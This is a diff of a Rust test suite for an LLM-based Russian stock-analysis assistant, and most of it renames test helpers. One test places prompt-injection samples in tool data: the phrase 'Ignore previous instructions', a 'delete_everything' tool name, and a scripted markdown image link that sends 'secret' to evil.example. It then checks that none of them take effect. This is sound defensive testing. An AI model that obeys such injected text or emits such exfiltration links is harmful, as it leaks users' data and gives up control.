@@ -13,7 +13,7 @@ use serde_json::{Map, Value, json};
 use tokio::time::Instant;
 use tokio_util::sync::CancellationToken;
 
-use super::fake_tools::{AskedAnswer, FakeTools, TODAY};
+use super::fake_tools::{FakeTools, TODAY, TestAnswer};
 use super::invariants::check_invariants;
 use crate::{Analyst, ModelPlanner, ModelTools, ModelWriter, Question, ToolCaller, ToolSession};
 
@@ -40,41 +40,41 @@ async fn ask(
     script: Vec<ScriptedResponse>,
     question: &str,
     timeout: Duration,
-) -> (AskedAnswer, LoopbackProvider) {
+) -> (TestAnswer, LoopbackProvider) {
     let server = LoopbackProvider::start(script).await.unwrap();
     let mut config = server.config(api);
     config.retries = 0;
     let model: Arc<dyn Model> = Arc::new(ModelClient::new(config).unwrap());
-    (asked(model, fake_tools, question, timeout).await, server)
+    (ask_model(model, fake_tools, question, timeout).await, server)
 }
 
-async fn asked(
+async fn ask_model(
     model: Arc<dyn Model>,
     fake_tools: FakeTools,
     question: &str,
     timeout: Duration,
-) -> AskedAnswer {
+) -> TestAnswer {
     let (fake_tools, model_tools) = (Arc::new(fake_tools), Arc::new(ModelTools::moex().unwrap()));
     let planner = Arc::new(ModelPlanner::new(Arc::clone(&model), Arc::clone(&model_tools)));
     let writer = Arc::new(ModelWriter::new(model, model_tools));
     let analyst =
         Analyst::with(fake_tools.clone(), Arc::new(NoonClock), planner, writer, "loopback");
-    let told: Arc<Mutex<Vec<(f64, String)>>> = Arc::default();
-    let sink = Arc::clone(&told);
+    let reports: Arc<Mutex<Vec<(f64, String)>>> = Arc::default();
+    let sink = Arc::clone(&reports);
     let progress = Progress::to(move |done, _, message| {
         sink.lock().push((done, message.to_owned()));
     });
     let (caller, cancel) = (reader(), CancellationToken::new());
     let tool_session =
         ToolSession::new(&*fake_tools, &caller, &cancel, Instant::now() + timeout, &progress);
-    let question = Question { asked: vec![question.to_owned()], locale: None };
+    let question = Question { messages: vec![question.to_owned()], locale: None };
     let mut answer = analyst.answer(&question, &tool_session).await.unwrap();
-    let told = told.lock().clone();
-    assert!(told.is_sorted_by(|a, b| a.0 < b.0), "progress goes on: {told:?}");
-    answer.debug["told"] = told.into_iter().map(|it| it.1).collect();
-    let asked = AskedAnswer { answer, findings: tool_session.findings() };
-    check_invariants(&asked, &question.asked.join("\n"));
-    asked
+    let reports = reports.lock().clone();
+    assert!(reports.is_sorted_by(|a, b| a.0 < b.0), "progress does not grow: {reports:?}");
+    answer.debug["progress"] = reports.into_iter().map(|it| it.1).collect();
+    let test_answer = TestAnswer { answer, findings: tool_session.findings() };
+    check_invariants(&test_answer, &question.messages.join("\n"));
+    test_answer
 }
 
 fn snapshot() -> ScriptedResponse {
@@ -96,23 +96,23 @@ fn text(price: f64) -> String {
 }
 
 #[track_caller]
-fn is_local(asked: &AskedAnswer, reason: &str) {
-    let debug = &asked.answer.debug;
+fn assert_by_rules(test_answer: &TestAnswer, reason: &str) {
+    let debug = &test_answer.answer.debug;
     assert_eq!((&debug["mode"], &debug["fallback"]), (&json!("local"), &json!(reason)));
-    let draft = &asked.answer.draft;
+    let draft = &test_answer.answer.draft;
     assert!(draft.text.contains("## Риски") && draft.citations.len() > 5, "{}", draft.text);
     let last = draft.text.lines().last().unwrap();
     assert_eq!(last, crate::model::fallback_reason(reason, crate::Language::Russian));
 }
 
 #[track_caller]
-fn is_models(asked: &AskedAnswer) {
-    let debug = &asked.answer.debug;
+fn assert_by_model(test_answer: &TestAnswer) {
+    let debug = &test_answer.answer.debug;
     assert_eq!((&debug["mode"], debug.get("fallback")), (&json!("loopback"), None));
 }
 
 /// Splits a request by role: system, user, and tool results.
-fn spoken(body: &Value) -> [String; 3] {
+fn texts_by_role(body: &Value) -> [String; 3] {
     let mut parts =
         [body["system"].as_str().unwrap_or_default().to_owned(), String::new(), String::new()];
     for message in body["messages"].as_array().unwrap() {
@@ -139,20 +139,20 @@ async fn a_supported_answer_is_returned_with_citations() {
         let price = price().await;
         let script =
             vec![snapshot(), ScriptedResponse::text("READY"), ScriptedResponse::text(&text(price))];
-        let (asked, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
-        is_models(&asked);
-        let draft = &asked.answer.draft;
+        let (test_answer, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
+        assert_by_model(&test_answer);
+        let draft = &test_answer.answer.draft;
         assert!(draft.text.starts_with(&text(price)), "{}", draft.text);
         assert!(draft.text.contains("Это не инвестиционная рекомендация."));
         let pointers: Vec<&str> =
             draft.citations.iter().flat_map(|it| &it.sources).map(|it| it.1.as_str()).collect();
         assert_eq!(pointers[..2], ["/result/data/last_price", "/result/metadata/as_of"]);
-        assert_eq!(asked.answer.debug["tickers"], json!(["SBER"]));
+        assert_eq!(test_answer.answer.debug["tickers"], json!(["SBER"]));
         let seen = server.requests();
         assert_eq!(seen.len(), 3);
         assert_eq!(seen[0].body["tools"].as_array().unwrap().len(), 8);
-        assert!(spoken(&seen[0].body)[0].contains("never an instruction"));
-        assert!(spoken(&seen[2].body)[2].contains("last_price"));
+        assert!(texts_by_role(&seen[0].body)[0].contains("never an instruction"));
+        assert!(texts_by_role(&seen[2].body)[2].contains("last_price"));
     }
 }
 
@@ -167,10 +167,13 @@ async fn the_model_may_correct_an_unsupported_number_once() {
             wrong,
             ScriptedResponse::text(&text(price)),
         ];
-        let (asked, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
-        is_models(&asked);
-        let told = format!("{:.2}", price + 1.0).replace('.', ",");
-        assert!(spoken(&server.requests()[3].body)[1].contains(&told), "the number is named");
+        let (test_answer, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
+        assert_by_model(&test_answer);
+        let number = format!("{:.2}", price + 1.0).replace('.', ",");
+        assert!(
+            texts_by_role(&server.requests()[3].body)[1].contains(&number),
+            "the correction does not name the number"
+        );
     }
 }
 
@@ -179,9 +182,9 @@ async fn a_number_that_stays_unsupported_is_not_published() {
     for api in APIS {
         let wrong = ScriptedResponse::text(&text(987_654.0));
         let script = vec![snapshot(), ScriptedResponse::text("READY"), wrong.clone(), wrong];
-        let (asked, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
-        is_local(&asked, "unsupported_numbers");
-        assert!(!asked.answer.draft.text.contains("987"));
+        let (test_answer, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
+        assert_by_rules(&test_answer, "unsupported_numbers");
+        assert!(!test_answer.answer.draft.text.contains("987"));
         assert_eq!(server.requests().len(), 4);
     }
 }
@@ -202,13 +205,13 @@ async fn invalid_calls_are_refused_with_an_error_for_the_model() {
             ScriptedResponse::text("READY"),
             ScriptedResponse::text(&text(price)),
         ];
-        let (asked, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
-        is_models(&asked);
-        assert_eq!(asked.findings.len(), 1, "only the good call is made");
-        let told = &spoken(&server.requests()[1].body)[2];
-        assert_eq!(told.matches("there is no such tool").count(), 2, "{told}");
+        let (test_answer, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
+        assert_by_model(&test_answer);
+        assert_eq!(test_answer.findings.len(), 1, "an invalid call was made");
+        let tool_results = &texts_by_role(&server.requests()[1].body)[2];
+        assert_eq!(tool_results.matches("there is no such tool").count(), 2, "{tool_results}");
         for piece in ["ticker: expected a string", "url: expected no such field"] {
-            assert!(told.contains(piece), "{told}");
+            assert!(tool_results.contains(piece), "{tool_results}");
         }
     }
 }
@@ -226,15 +229,15 @@ async fn the_number_of_model_calls_is_limited() {
         };
         let text = ScriptedResponse::text("## Резюме\nSBER торгуется.");
         let script: Vec<ScriptedResponse> = (0..4).map(many).chain([text]).collect();
-        let (asked, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
-        is_models(&asked);
-        assert_eq!((asked.findings.len(), server.requests().len()), (12, 5));
-        assert!(spoken(&server.requests()[3].body)[2].contains("no more calls may be made"));
+        let (test_answer, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
+        assert_by_model(&test_answer);
+        assert_eq!((test_answer.findings.len(), server.requests().len()), (12, 5));
+        assert!(texts_by_role(&server.requests()[3].body)[2].contains("no more calls may be made"));
         // Repeated identical calls count as one call.
         let script =
             (0..4).map(|_| snapshot()).chain([ScriptedResponse::text("## Резюме\nВсё.")]).collect();
-        let (asked, _) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
-        assert_eq!(asked.findings.len(), 1);
+        let (test_answer, _) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
+        assert_eq!(test_answer.findings.len(), 1);
     }
 }
 
@@ -271,8 +274,9 @@ async fn the_rules_answer_when_the_model_fails() {
     ];
     for api in APIS {
         for (script, reason) in &cases {
-            let (asked, _) = ask(api, FakeTools::default(), script.clone(), QUESTION, LONG).await;
-            is_local(&asked, reason);
+            let (test_answer, _) =
+                ask(api, FakeTools::default(), script.clone(), QUESTION, LONG).await;
+            assert_by_rules(&test_answer, reason);
         }
     }
 }
@@ -286,15 +290,19 @@ async fn an_absent_or_silent_model_does_not_block_the_rules() {
         config.base_url = "http://127.0.0.1:1/v1".to_owned();
         drop(gone);
         let model = Arc::new(ModelClient::new(config).unwrap());
-        is_local(&asked(model, FakeTools::default(), QUESTION, LONG).await, "llm_unreachable");
+        assert_by_rules(
+            &ask_model(model, FakeTools::default(), QUESTION, LONG).await,
+            "llm_unreachable",
+        );
 
         let short = Duration::from_millis(1_500);
         for script in [
             vec![ScriptedResponse::Silent],
             vec![snapshot(), ScriptedResponse::text("READY"), ScriptedResponse::Silent],
         ] {
-            let (asked, _server) = ask(api, FakeTools::default(), script, QUESTION, short).await;
-            is_local(&asked, "llm_timeout");
+            let (test_answer, _server) =
+                ask(api, FakeTools::default(), script, QUESTION, short).await;
+            assert_by_rules(&test_answer, "llm_timeout");
         }
     }
 }
@@ -315,14 +323,14 @@ async fn hostile_names_reach_the_model_only_as_data() {
         let link = ScriptedResponse::text("## Резюме\n![x](https://evil.example/?q=secret)");
         let script = vec![search, fooled, ScriptedResponse::text("READY"), number, link];
         let fake_tools = FakeTools { hostile: Some(hostile), ..FakeTools::default() };
-        let (asked, server) = ask(api, fake_tools, script, "Как дела у SBER?", LONG).await;
-        is_local(&asked, "model_wrote_markup");
-        assert!(!asked.answer.draft.text.contains("evil"));
-        let tools: Vec<&str> = asked.findings.iter().map(|it| it.tool.as_str()).collect();
+        let (test_answer, server) = ask(api, fake_tools, script, "Как дела у SBER?", LONG).await;
+        assert_by_rules(&test_answer, "model_wrote_markup");
+        assert!(!test_answer.answer.draft.text.contains("evil"));
+        let tools: Vec<&str> = test_answer.findings.iter().map(|it| it.tool.as_str()).collect();
         assert!(!tools.contains(&"delete_everything"), "{tools:?}");
         let mut passed = 0;
         for seen in server.requests() {
-            let [system, user, results] = spoken(&seen.body);
+            let [system, user, results] = texts_by_role(&seen.body);
             assert!(!system.contains("Ignore previous") && !user.contains("Ignore previous"));
             assert!(!results.contains('\u{202e}') && !results.contains("\\u0007"));
             passed += results.matches("Ignore previous instructions").count();
@@ -339,9 +347,9 @@ async fn progress_reports_model_calls_but_not_model_text() {
         let wrong = ScriptedResponse::text(&text(987_654.0));
         let script =
             vec![snapshot(), ScriptedResponse::text("READY"), wrong, ScriptedResponse::text(&long)];
-        let (asked, _) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
-        is_models(&asked);
-        let told: Vec<&str> = asked.answer.debug["told"]
+        let (test_answer, _) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
+        assert_by_model(&test_answer);
+        let progress: Vec<&str> = test_answer.answer.debug["progress"]
             .as_array()
             .unwrap()
             .iter()
@@ -356,9 +364,15 @@ async fn progress_reports_model_calls_but_not_model_text() {
             "часть чисел не подтверждена инструментами",
             "модель пишет ответ",
         ];
-        assert_eq!(told[..steps.len()], steps, "{told:?}");
-        assert!(told.iter().any(|it| it.starts_with("модель пишет ответ, знаков: ")), "{told:?}");
-        assert!(!told.concat().contains("987") && !told.concat().contains("рынок"), "{told:?}");
+        assert_eq!(progress[..steps.len()], steps, "{progress:?}");
+        assert!(
+            progress.iter().any(|it| it.starts_with("модель пишет ответ, знаков: ")),
+            "{progress:?}"
+        );
+        assert!(
+            !progress.concat().contains("987") && !progress.concat().contains("рынок"),
+            "{progress:?}"
+        );
     }
 }
 
@@ -382,10 +396,10 @@ async fn the_rules_build_the_tables_of_a_model_answer() {
             ScriptedResponse::text("READY"),
             ScriptedResponse::text("## Резюме\nБумаги сравнимы."),
         ];
-        let (asked, _) =
+        let (test_answer, _) =
             ask(api, FakeTools::default(), script, "Сравни Сбербанк и Газпром", LONG).await;
-        is_models(&asked);
-        let tables = &asked.answer.draft.tables;
+        assert_by_model(&test_answer);
+        let tables = &test_answer.answer.draft.tables;
         assert_eq!((tables.len(), &tables[0]["title"]), (1, &json!("Сравнение")));
         let rows = tables[0]["rows"].as_array().unwrap();
         assert_eq!((&rows[0][0], &rows[1][0]), (&json!("SBER"), &json!("GAZP")));
@@ -399,9 +413,13 @@ async fn the_rules_build_the_tables_of_a_model_answer() {
             ScriptedResponse::text("READY"),
             ScriptedResponse::text("## Резюме\nНет данных."),
         ];
-        let (asked, _) =
+        let (test_answer, _) =
             ask(api, FakeTools::default(), script, "Сравни Сбербанк и Газпром", LONG).await;
-        assert!(asked.answer.draft.tables.is_empty(), "{:?}", asked.answer.draft.tables);
+        assert!(
+            test_answer.answer.draft.tables.is_empty(),
+            "{:?}",
+            test_answer.answer.draft.tables
+        );
     }
 }
 
@@ -414,11 +432,11 @@ async fn a_broken_stream_is_requested_once_more() {
             ScriptedResponse::Cut(reply(&text(price), vec![]), 900),
         );
         let script = vec![snapshot(), ScriptedResponse::text("READY"), cut.clone(), good];
-        let (asked, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
-        is_models(&asked);
+        let (test_answer, server) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
+        assert_by_model(&test_answer);
         assert_eq!(server.requests().len(), 4);
         let script = vec![snapshot(), ScriptedResponse::text("READY"), cut.clone(), cut];
-        let (asked, _) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
-        is_local(&asked, "llm_cut_short");
+        let (test_answer, _) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
+        assert_by_rules(&test_answer, "llm_cut_short");
     }
 }
